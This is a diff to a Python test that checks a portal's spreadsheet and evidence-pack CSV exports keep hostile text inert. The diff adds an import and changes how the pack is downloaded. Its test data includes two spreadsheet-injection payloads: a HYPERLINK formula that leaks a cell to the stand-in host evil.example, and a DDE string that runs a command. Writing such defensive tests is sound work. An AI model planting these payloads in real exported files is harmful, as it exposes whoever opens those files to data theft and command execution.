@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 from portal.demo.operations import walk_through_course
 from portal.extensions import db
 from tests.conftest import assign_course, login, post_form
+from tests.web.evidence.test_pack import download
 
 NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
 DEVICE = "+cmd|' /C calc'!A0"
@@ -40,6 +41,6 @@ def test_hostile_text_is_inert_in_every_export(client, world, courses):
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert all(cell.data_type == "s" for cell in cells)
     assert_inert([cell.value for cell in cells])
-    pack = zipfile.ZipFile(io.BytesIO(client.get(f"/evidence/employees/{world.worker.id}/pack.zip").data))
+    pack = zipfile.ZipFile(io.BytesIO(download(client, world.worker.id)))  # built by the background job
     events = csv_cells(pack.read(next(name for name in pack.namelist() if name.endswith("/events.csv"))))
     assert "'" + DEVICE in events and DEVICE not in events
